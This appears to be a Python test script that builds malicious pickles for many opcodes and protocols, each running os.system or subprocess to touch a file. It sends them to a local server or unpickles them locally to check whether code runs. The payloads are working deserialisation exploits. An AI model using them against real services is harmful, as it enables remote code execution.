"""Pickles that make a file where they are unpickled, or try to, with each opcode that calls something. Prints a line of JSON for each: its name, and what was
heard behind the list up to the end of the connection, in hex.

Usage: evil_pickles.py PORT FILE       sends each on a connection of its own
       evil_pickles.py unpickle FILE   lets Python unpickle them, and prints for each whether there was a file then
"""

import io
import json
import os
import pickle
import socket
import sys

FILE = sys.argv[2]
COMMAND = f"touch {FILE}"


class Evil:
    def __reduce__(self):
        return os.system, (COMMAND,)


def by_hand():
    text = b"V" + COMMAND.encode() + b"\n"
    short = b"\x8c" + bytes([len(COMMAND)]) + COMMAND.encode()
    yield "GLOBAL, REDUCE", b"cos\nsystem\n(" + text + b"tR."
    yield "INST", b"(" + text + b"ios\nsystem\n."
    yield "OBJ", b"(cos\nsystem\n" + text + b"o."
    yield "STACK_GLOBAL, REDUCE", b"\x80\x04\x8c\x02os\x8c\x06system\x93" + short + b"\x85R."
    yield "NEWOBJ", b"\x80\x02csubprocess\nPopen\n((Vtouch\nV" + FILE.encode() + b"\ntt\x81."
    yield "NEWOBJ_EX", b"\x80\x04cos\nsystem\n(" + short + b"t}\x92."
    yield "BUILD", b"\x80\x02cos\nsystem\n(" + text + b"tR}Va\nK\x01sb."
    yield "PERSID", b"P" + COMMAND.encode() + b"\n."
    yield "BINPERSID", text + b"Q."
    yield "EXT1", b"\x80\x02\x82\x01."
    yield "behind a request", pickle.dumps(("BUSCA", "52998224725")) + b"cos\nsystem\n(" + text + b"tR."


def pickles():
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        yield f"a field, protocol {protocol}", pickle.dumps(("BUSCA", Evil()), protocol)
        yield f"the whole, protocol {protocol}", pickle.dumps(Evil(), protocol)
    yield from by_hand()


def unpickle(evil):
    stream = io.BytesIO(evil)
    try:
        while stream.tell() < len(evil):
            pickle.load(stream)
    except Exception:
        pass  # some need more than Python has by itself
    made = os.path.exists(FILE)
    if made:
        os.remove(FILE)
    return made


def send(port, evil):
    client = socket.create_connection(("127.0.0.1", port), 20)
    stream = client.makefile("rb")
    pickle.load(stream)
    client.sendall(evil)
    return stream.read().hex()  # up to the end of the connection


for name, evil in pickles():
    if sys.argv[1] == "unpickle":
        print(json.dumps({"name": name, "made": unpickle(evil)}), flush=True)
    else:
        print(json.dumps({"name": name, "heard": send(int(sys.argv[1]), evil)}), flush=True)
